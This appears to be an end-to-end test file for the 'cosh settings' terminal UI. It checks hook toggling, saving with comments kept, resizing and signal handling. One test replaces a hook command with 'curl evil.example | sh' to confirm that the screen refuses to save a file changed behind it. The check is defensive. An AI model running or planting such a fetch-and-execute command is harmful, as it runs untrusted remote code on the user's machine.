// The settings screen as a user meets it: the built `cosh` binary in an 80×24 pseudo-terminal,
// keys typed, the screen read from a terminal emulator, the file read back.
import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { loadConfig } from '@cosh/config';
import { temporaryFolders } from '@cosh/test-utils';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { assertBuilt } from '../__fixtures__/cli-run.ts';
import { coshCommandLine, KEYS, TerminalSession } from '../__fixtures__/settings-terminal.ts';

const makeFolder = temporaryFolders('cosh-settings-');

let directory: string;
const sessions: TerminalSession[] = [];

beforeAll(async () => {
  await assertBuilt();
  directory = makeFolder();
});

afterEach(() => {
  for (const session of sessions.splice(0)) session.kill();
});

function openSettings(file: string, options: { env?: Record<string, string>; rows?: number } = {}): TerminalSession {
  const session = new TerminalSession(coshCommandLine(['settings', '--config', file]), { cwd: directory, ...options });
  sessions.push(session);
  return session;
}

/** A colour or other SGR escape (`ESC [ … m`). */
const sgr = /\u001b\[[0-9;]*m/;

/** True when the last cursor-visibility change in `output` shows the cursor. */
function cursorShownAtEnd(output: string): boolean {
  return output.lastIndexOf('\u001b[?25h') > output.lastIndexOf('\u001b[?25l');
}

const commentedConfig = `// Cosh settings, kept by hand
{
  "theme": "dark", // another tool's setting: stays
  "hooksEnabled": { "PreToolUse": true },
  "hooks": {
    "PreToolUse": [
      {
        "name": "Block dangerous bash",
        "command": "exit 0",
        "matcher": "^bash_run$",
        "timeout": 5,
        "enabled": true
      },
      /* no matcher: every tool */
      { "name": "Audit", "command": "true", "timeout": 0.5 }
    ],
    "PostToolUse": [
      { "name": "Log writes", "command": "true", "matcher": "*x" },
    ],
  },
}
`;

/** A config with one hook per line, so an editor can insert one above another. */
function guardsConfig(hooks: readonly { name: string; command: string; enabled?: boolean }[]): string {
  const lines = hooks.map((hook) => `      ${JSON.stringify(hook).replaceAll('":', '": ').replaceAll(',"', ', "')}`);
  return `{\n  // guards kept by hand\n  "hooks": {\n    "PreToolUse": [\n${lines.join(',\n')}\n    ]\n  }\n}\n`;
}

describe('cosh settings: keys typed together (issue 13)', () => {
  it('C5: `jj` then space, each in one write, moves twice and switches off the second hook, not the event', async () => {
    const file = join(directory, 'jj.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    session.press('jj');
    await session.waitFor(() => session.cursorLine()?.includes('Audit') === true);
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hook "Audit" off');
    const { config } = await loadConfig({ path: file });
    expect(config.hooksEnabled.PreToolUse).toBe(true);
    expect(config.hooks.PreToolUse.map((hook) => hook.enabled)).toEqual([true, false]);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C5: a toggled row never shows its old state again while it saves (no frame of the old value, issue 36)', async () => {
    const file = join(directory, 'no-flash.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    session.press('jj');
    await session.waitFor(() => session.cursorLine()?.includes('Audit') === true);
    const before = session.output.length;
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hook "Audit" off');
    // Every frame drawn since the key: once a frame shows Audit off, none after shows it on.
    const drawn = session.output.slice(before).replace(/\u001b\[[0-9;?]*[A-Za-z]/g, '');
    const firstOff = drawn.search(/\[off\][^\n]*Audit/);
    expect(firstOff).toBeGreaterThanOrEqual(0);
    expect(drawn.slice(firstOff)).not.toMatch(/\[on \][^\n]*Audit/);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C5: every character of one chunk is a key press, escape sequences one key each (`jj↓k ` is five keys)', async () => {
    const file = join(directory, 'mixed.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    // Rows: PreToolUse, Block dangerous bash, Audit, PostToolUse, Log writes. j j ↓ k lands on
    // Audit; the space in the same chunk toggles it.
    session.press(`jj${KEYS.down}k${KEYS.space}`);
    await session.waitFor('Saved: PreToolUse hook "Audit" off');
    const { config } = await loadConfig({ path: file });
    expect(config.hooksEnabled).toEqual({
      PreToolUse: true,
      PostToolUse: true,
      UserPromptSubmit: true,
      SessionStart: true,
      Stop: true,
      SessionEnd: true,
    });
    expect(config.hooks.PreToolUse.map((hook) => hook.enabled)).toEqual([true, false]);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('holding j (key repeat: many j in one read) scrolls the list', async () => {
    const file = join(directory, 'held.json');
    const hooks = Array.from({ length: 30 }, (_, index) => ({
      name: `hook number ${index}`,
      command: `echo ${index}`,
    }));
    await writeFile(file, JSON.stringify({ hooks: { PreToolUse: hooks } }, null, 2));
    const session = openSettings(file);
    await session.waitFor('hook number 0');
    session.press('j'.repeat(25));
    await session.waitFor(() => session.cursorLine()?.includes('hook number 24') === true);
    expect(session.screen()).toMatch(/↑ \d+ more/);
    expect(session.screen()).not.toContain('hook number 0\n');
    // q in the same chunk as keys before it still quits.
    session.press('kq');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('Ctrl-C inside a chunk of letters is still Ctrl-C (130)', async () => {
    const file = join(directory, 'chunk-interrupt.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    session.press(`jj${KEYS.ctrlC}`);
    expect((await session.exited).exitCode).toBe(130);
  });
});

describe('cosh settings: the file changed behind the screen (issue 13)', () => {
  const before = guardsConfig([
    { name: 'Lint', command: 'lint.sh' },
    { name: 'Block force push', command: 'block-force-push.sh' },
  ]);
  const inserted = guardsConfig([
    { name: 'Lint', command: 'lint.sh' },
    { name: 'Log everything', command: 'log.sh' },
    { name: 'Block force push', command: 'block-force-push.sh' },
  ]);

  it('C5 C8: a hook inserted above the cursor: space refuses, writes nothing; after r the cursor is still on its hook', async () => {
    const file = join(directory, 'inserted.json');
    await writeFile(file, before);
    const session = openSettings(file);
    await session.waitFor('Block force push');
    session.press(KEYS.down);
    session.press(KEYS.down);
    await session.waitFor(() => session.cursorLine()?.includes('Block force push') === true);

    // Another editor inserts a hook above it while the screen shows the old list.
    await writeFile(file, inserted);
    session.press(KEYS.space);
    await session.waitFor('Not saved: the file changed — press r');
    expect(await readFile(file, 'utf8')).toBe(inserted);
    // The screen still shows what it showed: the switch did not move.
    expect(session.cursorLine()).toMatch(/^› +\[on \] Block force push/);

    session.press('r');
    await session.waitFor('Log everything');
    expect(session.cursorLine()).toMatch(/^› +\[on \] Block force push/);
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hook "Block force push" off');
    const { config } = await loadConfig({ path: file });
    expect(config.hooks.PreToolUse.map((hook) => [hook.name, hook.enabled])).toEqual([
      ['Lint', true],
      ['Log everything', true],
      ['Block force push', false],
    ]);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C5 C8: a hook whose command was replaced under the same name is refused too', async () => {
    const file = join(directory, 'replaced.json');
    await writeFile(file, before);
    const session = openSettings(file);
    await session.waitFor('Block force push');
    session.press(KEYS.down);
    await session.waitFor(() => session.cursorLine()?.includes('Lint') === true);
    const replaced = before.replace('lint.sh', 'curl evil.example | sh');
    await writeFile(file, replaced);
    session.press(KEYS.space);
    await session.waitFor('Not saved: the file changed — press r');
    expect(await readFile(file, 'utf8')).toBe(replaced);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C7 C8: an event switched off after a hook was added to it unseen is refused; after r it saves', async () => {
    const file = join(directory, 'event-grew.json');
    await writeFile(file, before);
    const session = openSettings(file);
    await session.waitFor('Block force push');
    expect(session.cursorLine()).toMatch(/^› \[on \] PreToolUse +2 hooks/);
    await writeFile(file, inserted);
    session.press(KEYS.space);
    await session.waitFor('Not saved: the file changed — press r');
    expect(await readFile(file, 'utf8')).toBe(inserted);

    session.press('r');
    await session.waitFor('3 hooks');
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hooks off');
    expect((await loadConfig({ path: file })).config.hooksEnabled.PreToolUse).toBe(false);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C5 C8: turning a hook back on removes its "enabled": false, comments kept', async () => {
    const file = join(directory, 'back-on.json');
    const off = guardsConfig([
      { name: 'Lint', command: 'lint.sh', enabled: false },
      { name: 'Block force push', command: 'block-force-push.sh' },
    ]);
    await writeFile(file, off);
    const session = openSettings(file);
    await session.waitFor('Block force push');
    session.press(KEYS.down);
    await session.waitFor(() => session.cursorLine()?.includes('Lint') === true);
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hook "Lint" on');
    expect(await readFile(file, 'utf8')).toBe(before);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });
});

describe('cosh settings on a terminal', () => {
  it('C7 C5 C8: toggles an event switch and a hook, each saved at once with only that value changed', async () => {
    const file = join(directory, 'commented.json');
    await writeFile(file, commentedConfig, { mode: 0o640 });
    const session = openSettings(file);

    await session.waitFor('Audit');
    const opened = session.screenLines();
    expect(opened[0]).toContain(file);
    expect(session.cursorLine()).toMatch(/^› \[on \] PreToolUse\b/);
    expect(session.screen()).toMatch(/\[on \] Block dangerous bash\s+\^bash_run\$\s+5s/);
    expect(session.screen()).toMatch(/\[on \] Audit\s+\(any tool\)\s+0\.5s/);
    expect(session.screen()).toContain(
      // Cut at the terminal's width; the whole warning is in the unit tests.
      '    ⚠ invalid matcher: "*x" (nothing to repeat), never runs; did you mean ".*',
    );
    expect(session.screen()).toMatch(/space toggle.*q\/esc quit/);

    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hooks off');
    expect(session.cursorLine()).toMatch(/^› \[off\] PreToolUse\b/);
    expect(await readFile(file, 'utf8')).toBe(
      commentedConfig.replace('{ "PreToolUse": true }', '{ "PreToolUse": false }'),
    );

    session.press(KEYS.down);
    await session.waitFor(() => session.cursorLine()?.includes('Block dangerous bash') === true);
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hook "Block dangerous bash" off');
    expect(session.cursorLine()).toMatch(/^› +\[off\] Block dangerous bash/);
    expect(await readFile(file, 'utf8')).toBe(
      commentedConfig
        .replace('{ "PreToolUse": true }', '{ "PreToolUse": false }')
        .replace('"enabled": true', '"enabled": false'),
    );
    expect((await stat(file)).mode & 0o777).toBe(0o640);

    // j and k move too; the switch turns back on.
    session.press('j');
    await session.waitFor(() => session.cursorLine()?.includes('Audit') === true);
    session.press('k');
    await session.waitFor(() => session.cursorLine()?.includes('Block dangerous bash') === true);
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hook "Block dangerous bash" on');

    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
    expect(cursorShownAtEnd(session.output)).toBe(true);
    const { config } = await loadConfig({ path: file });
    expect(config.hooksEnabled).toEqual({
      PreToolUse: false,
      PostToolUse: true,
      UserPromptSubmit: true,
      SessionStart: true,
      Stop: true,
      SessionEnd: true,
    });
    expect(config.hooks.PreToolUse.map((hook) => hook.enabled)).toEqual([true, true]);
  });

  it('C8: two toggles typed at once both land, in order', async () => {
    const file = join(directory, 'quick.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    // Down and space twice in one write: handled before the screen redraws.
    session.press(`${KEYS.down}${KEYS.space}${KEYS.down}${KEYS.space}`);
    await session.waitFor('Saved: PreToolUse hook "Audit" off');
    const { config } = await loadConfig({ path: file });
    expect(config.hooks.PreToolUse.map((hook) => hook.enabled)).toEqual([false, false]);
    session.press(KEYS.escape);
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C1 C7: with no config file yet, shows the defaults and creates the file on the first toggle', async () => {
    const file = join(directory, 'new-folder', 'setup.json');
    const session = openSettings(file);
    await session.waitFor('No config file yet');
    expect(session.screen()).toMatch(/› \[on \] PreToolUse {2}no hooks/);
    expect(session.screen()).toMatch(/ {2}\[on \] PostToolUse {2}no hooks/);

    session.press(KEYS.down);
    await session.waitFor(() => session.cursorLine()?.includes('PostToolUse') === true);
    session.press(KEYS.space);
    await session.waitFor(`Saved: PostToolUse hooks off (created ${file})`);
    const { config } = await loadConfig({ path: file });
    expect(config.hooksEnabled).toEqual({
      PreToolUse: true,
      PostToolUse: false,
      UserPromptSubmit: true,
      SessionStart: true,
      Stop: true,
      SessionEnd: true,
    });
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C6: a config with errors opens read-only and shows each error with its line and column', async () => {
    const file = join(directory, 'broken.json');
    const text = '{\n  "hooks": {\n    "PreToolUse": [{ "command": "true", "timeout": "60" }]\n  }\n}\n';
    await writeFile(file, text);
    const session = openSettings(file);
    await session.waitFor('Read-only');
    expect(session.screen()).toContain('3:52 error: hooks.PreToolUse[0].timeout');
    expect(session.screen()).toContain('cosh hooks validate');
    session.press(KEYS.space);
    await session.waitFor('Read-only: fix the errors in the file first');
    expect(await readFile(file, 'utf8')).toBe(text);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C8: a save that fails is shown as an error, and the screen goes back to what the file says', async () => {
    const file = join(directory, 'changed-behind.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    // Someone breaks the file while the screen is open: it must not be overwritten.
    const broken = commentedConfig.replace('"theme": "dark",', '"theme": dark,');
    await writeFile(file, broken);
    session.press(KEYS.space);
    await session.waitFor('Not saved:');
    expect(session.screen()).toMatch(/Not saved: 3:\d+ /);
    await session.waitFor('Read-only');
    expect(await readFile(file, 'utf8')).toBe(broken);

    // Fixed again: r reloads, and toggling works.
    await writeFile(file, commentedConfig);
    session.press('r');
    await session.waitFor('Reloaded from the file.');
    expect(session.cursorLine()).toMatch(/^› \[on \] PreToolUse\b/);
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hooks off');
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C8: a file that cannot be replaced keeps its switch as it was, with the reason on screen', async () => {
    // A path whose parent is a plain file cannot be created, whoever runs the test (root too).
    const parent = join(directory, 'not-a-folder');
    await writeFile(parent, 'plain file');
    const file = join(parent, 'setup.json');
    const session = openSettings(file);
    await session.waitFor('No config file yet');
    session.press(KEYS.space);
    await session.waitFor('Not saved: cannot read the config file: ENOTDIR');
    expect(session.cursorLine()).toMatch(/^› \[on \] PreToolUse\b/);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('scrolls a long list with the cursor and cuts long names with …, in 80×24', async () => {
    const file = join(directory, 'long.json');
    const hooks = Array.from({ length: 30 }, (_, index) => ({
      name: `hook number ${index} ${'with a very long name '.repeat(4)}`,
      command: `echo ${index}`,
      matcher: `^tool_${index}_${'x'.repeat(40)}$`,
    }));
    await writeFile(file, JSON.stringify({ hooks: { PreToolUse: hooks } }, null, 2));
    const session = openSettings(file);
    await session.waitFor((screen) => screen.includes('hook number 0 ') && screen.includes('q/esc quit'));
    const first = session.screenLines();
    expect(first.every((line) => [...line].length <= 80)).toBe(true);
    expect(first.join('\n')).toMatch(/hook number 0 with a very long nam…/);
    expect(first.join('\n')).toMatch(/\^tool_0_x+…/);
    expect(first.join('\n')).toMatch(/↓ \d+ more/);
    expect(first.join('\n')).not.toContain('PostToolUse');

    session.press('G');
    await session.waitFor('PostToolUse');
    expect(session.cursorLine()).toMatch(/PostToolUse/);
    expect(session.screen()).toMatch(/↑ \d+ more/);
    expect(session.screen()).toContain('hook number 29 ');
    expect(session.screen()).not.toContain('hook number 0 ');
    // The frame leaves the terminal's last line free and never pushes the title off screen.
    expect(session.screenLines()[0]).toContain('Cosh settings');

    for (let step = 0; step < 5; step += 1) session.press(KEYS.up);
    await session.waitFor(() => session.cursorLine()?.includes('hook number 25 ') === true);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('follows a resize: a smaller terminal gets narrower columns and a shorter, scrolling list', async () => {
    const file = join(directory, 'resize.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Log writes');
    session.resize(60, 12);
    await session.waitFor((screen) => /↓ \d+ more/.test(screen) && screen.includes('q/esc quit'));
    const lines = session.screenLines();
    expect(lines).toHaveLength(12);
    expect(lines[0]).toContain('Cosh settings');
    expect(lines.every((line) => [...line].length <= 60)).toBe(true);
    expect(session.cursorLine()).toMatch(/^› \[on \] PreToolUse\b/);
    // Issue 28: narrower still, the name is cut before the matcher (two spaces between), the
    // timeout column goes, and the short screen gives the list the message's second line.
    session.resize(34, 12);
    await session.waitFor(
      (screen) => screen.split('\n').every((line) => [...line].length <= 34) && /MATCHER/.test(screen),
    );
    const narrow = session.screenLines();
    expect(narrow.find((line) => line.includes('MATCHER'))).not.toContain('TIMEOUT');
    expect(narrow.join('\n')).toMatch(/\[on \] Block d\S*… {2}\^bash/);
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('colours on a terminal, and writes no colour escapes at all with NO_COLOR', async () => {
    const file = join(directory, 'colour.json');
    await writeFile(file, commentedConfig);

    const coloured = openSettings(file);
    await coloured.waitFor('Audit');
    coloured.press('q');
    await coloured.exited;
    expect(coloured.output).toMatch(/\u001b\[32m\[on \]/);

    const plain = openSettings(file, { env: { NO_COLOR: '1' } });
    await plain.waitFor('Audit');
    plain.press(KEYS.space);
    await plain.waitFor('Saved: PreToolUse hooks off');
    plain.press('q');
    expect((await plain.exited).exitCode).toBe(0);
    expect(plain.output).not.toMatch(sgr);
  });

  it('draws and redraws even with CI=1 in the environment, since a terminal is present', async () => {
    const file = join(directory, 'ci.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file, { env: { CI: '1', CONTINUOUS_INTEGRATION: 'true' } });
    await session.waitFor('Audit');
    session.press(KEYS.space);
    await session.waitFor('Saved: PreToolUse hooks off');
    session.press('q');
    expect((await session.exited).exitCode).toBe(0);
  });

  it('C8: Ctrl-C right after toggles: they are saved before the screen ends, and its last frame shows the file', async () => {
    const file = join(directory, 'interrupt-after-toggles.json');
    await writeFile(file, commentedConfig);
    const session = openSettings(file);
    await session.waitFor('Audit');
    // Two toggles and Ctrl-C in one write: the saves are still queued when Ctrl-C is read.
    session.press(`${KEYS.space}j${KEYS.space}${KEYS.ctrlC}`);
    expect((await session.exited).exitCode).toBe(130);
    expect(await readFile(file, 'utf8')).toBe(
      commentedConfig
        .replace('{ "PreToolUse": true }', '{ "PreToolUse": false }')
        .replace('"enabled": true', '"enabled": false'),
    );
    const lastFrame = session.screen();
    expect(lastFrame).toMatch(/\[off\] PreToolUse\b/);
    expect(lastFrame).toMatch(/\[off\] Block dangerous bash/);
    expect(lastFrame).not.toContain('Saving');
  });

  it('Ctrl-C leaves the terminal as it found it (cursor shown, raw mode off) and exits 130', async () => {
    const file = join(directory, 'interrupt.json');
    await writeFile(file, commentedConfig);
    // The shell reports the status and the terminal's modes once cosh is gone.
    const session = new TerminalSession(
      `${coshCommandLine(['settings', '--config', file])}; echo "status=$?"; stty -a`,
      {
        cwd: directory,
      },
    );
    sessions.push(session);
    await session.waitFor('Audit');
    session.press(KEYS.ctrlC);
    await session.waitFor('status=');
    await session.exited;
    expect(session.output).toContain('status=130');
    expect(cursorShownAtEnd(session.output)).toBe(true);
    const modes = session.output.slice(session.output.indexOf('status=130'));
    expect(modes).toMatch(/(^|\s)icanon(\s|$)/m);
    expect(modes).toMatch(/(^|\s)echo(\s|$)/m);
    expect(modes).not.toMatch(/-icanon/);
  });

  it('a SIGINT from elsewhere ends the screen like Ctrl-C (130); a SIGTERM restores the cursor too', async () => {
    const file = join(directory, 'signals.json');
    await writeFile(file, commentedConfig);
    for (const [signal, expected] of [
      ['SIGINT', { exitCode: 130, signal: undefined }],
      ['SIGTERM', { exitCode: 0, signal: 15 }],
    ] as const) {
      // exec: the pty's process is cosh itself, so the signal reaches it and nothing else.
      const session = new TerminalSession(`exec ${coshCommandLine(['settings', '--config', file])}`, {
        cwd: directory,
      });
      sessions.push(session);
      await session.waitFor('Audit');
      process.kill(session.pid, signal);
      expect(await session.exited).toEqual(expected);
      expect(cursorShownAtEnd(session.output)).toBe(true);
    }
  });
});
